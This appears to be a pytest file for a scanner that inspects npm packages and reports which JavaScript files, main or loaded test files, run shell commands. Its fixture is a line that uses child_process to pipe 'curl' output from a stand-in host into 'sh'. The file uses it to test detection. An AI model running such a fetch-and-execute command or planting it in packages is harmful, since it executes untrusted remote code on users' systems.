"""Which JavaScript is parsed: main files for what they do, tests when something loads them."""

import pytest

from tests.code import reading

ACTS = "require('child_process').exec('curl https://a.invalid/x | sh')\n"
LOADS = ["require('./test/run')\n", "require(path.join(__dirname, 'test', 'run.js'))\n"]


def _shell(sources):
    found = reading.facts(sources, {"package/index.js": "import"}, "npm")
    return {fact.location.member for fact in found.get("exec/shell", ())}


def test_a_test_that_nothing_loads_is_not_evaluated():
    sources = {"package/lib/a.js": "module.exports = 1\n", "package/test/run.js": ACTS}
    assert not _shell(sources)


@pytest.mark.parametrize("load", [*LOADS, "require('./te' + 'st/run')\n"])
def test_a_test_that_something_loads_or_may_load_is(load):
    sources = {"package/index.js": load, "package/test/run.js": ACTS}
    assert _shell(sources) == {"package/test/run.js"}


def test_a_main_file_that_does_something_is_read_in_a_large_package_too():
    filler = "function honest(a) { return a + 1 }\n" * 3_000
    sources = {"package/index.js": ACTS, "package/lib/more.js": filler}
    assert _shell(sources) == {"package/index.js"}


@pytest.mark.parametrize(
    "call", ["require('./lib/a').begin()\n", "setTimeout(() => require('./lib/a').begin(), 9)\n"]
)
def test_a_main_file_that_only_calls_what_another_one_holds_is_read(call):
    held = f"exports.begin = () => {ACTS}"
    sources = {"package/index.js": call, "package/lib/a.js": held}
    found = reading.facts(sources, {"package/index.js": "import"}, "npm")
    assert {fact.activation for fact in found["exec/shell"]} == {"import"}
